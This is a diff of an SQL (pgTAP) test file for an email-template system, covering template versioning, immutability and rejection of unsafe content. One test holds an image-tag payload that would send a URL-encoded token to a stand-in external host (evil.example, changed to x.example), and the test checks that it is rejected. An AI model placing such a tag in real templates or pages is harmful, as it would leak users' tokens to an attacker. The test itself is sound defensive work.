@@ -65,7 +65,8 @@ select is(
 );
 select v1.save_template('test.greeting', 'EN', 'Hi', 'two');
 select is(
-    v1.publish_template('test.greeting', 'en') ->> 'version', '2', 'the next one is the next version'
+    v1.publish_template('test.greeting', 'en') ->> 'version', '2',
+    'the next one is the next version'
 );
 :as_owner
 select is(pg_temp.text_of(:acme), 'two', 'and takes the place of the first');
@@ -106,7 +107,7 @@ select isnt_empty(
 :as_owner
 select throws_ok(
     'update core.template_versions set text = ''other''', '55000',
-    'a published version of a template stays as it is', 'nobody rewrites a version, its owner neither'
+    'a published version of a template stays as it is', 'nobody rewrites a version'
 );
 
 -- What cannot be sent cannot be saved: the error names the part and the place.
@@ -177,7 +178,7 @@ select is(
                 distinct pg_temp.code_of(
                     format(
                         $$select v1.save_template(
-                            %L, 'en', 's', 't', '<img src="https://evil.example/{{ token|urlencode }}" />'
+                            %L, 'en', 's', 't', '<img src="https://x.example/{{ token|urlencode }}" />'
                         )$$, template
                     )
                 )
@@ -202,13 +203,14 @@ select is(
 insert into core.templates (tenant_id, id, template, language) values
 (:acme, '00000000-0000-4000-a000-0000000000ff', 'auth.magiclink', 'en');
 insert into core.template_versions (
-    tenant_id, id, template_id, template, language, number, subject, text, has_layout
+    tenant_id, template_id, template, language, number, subject, text, has_layout
 )
 values (
-    :acme, '00000000-0000-4000-a000-0000000000fe', '00000000-0000-4000-a000-0000000000ff',
-    'auth.magiclink', 'en', 1, 'evil', 'evil', false
-);
-update core.templates set version_id = '00000000-0000-4000-a000-0000000000fe'
+    :acme, '00000000-0000-4000-a000-0000000000ff', 'auth.magiclink', 'en', 1, 'evil', 'evil', false
+)
+returning id as evil
+\gset
+update core.templates set version_id = :evil
 where id = '00000000-0000-4000-a000-0000000000ff';
 select isnt(
     core.render_email(:acme, 'auth.magiclink', null, 'en', null, '{}') ->> 'subject', 'evil',
@@ -217,9 +219,7 @@ select isnt(
 select is(
     pg_temp.code_of(
         format(
-            $$select core.render_email(
-                %L, 'auth.magiclink', '00000000-0000-4000-a000-0000000000fe', 'en', null, '{}'
-            )$$, :acme
+            $$select core.render_email(%L, 'auth.magiclink', %s, 'en', null, '{}')$$, :acme, :evil
         )
     ), 'template.version_unknown', 'not by its id either'
 );
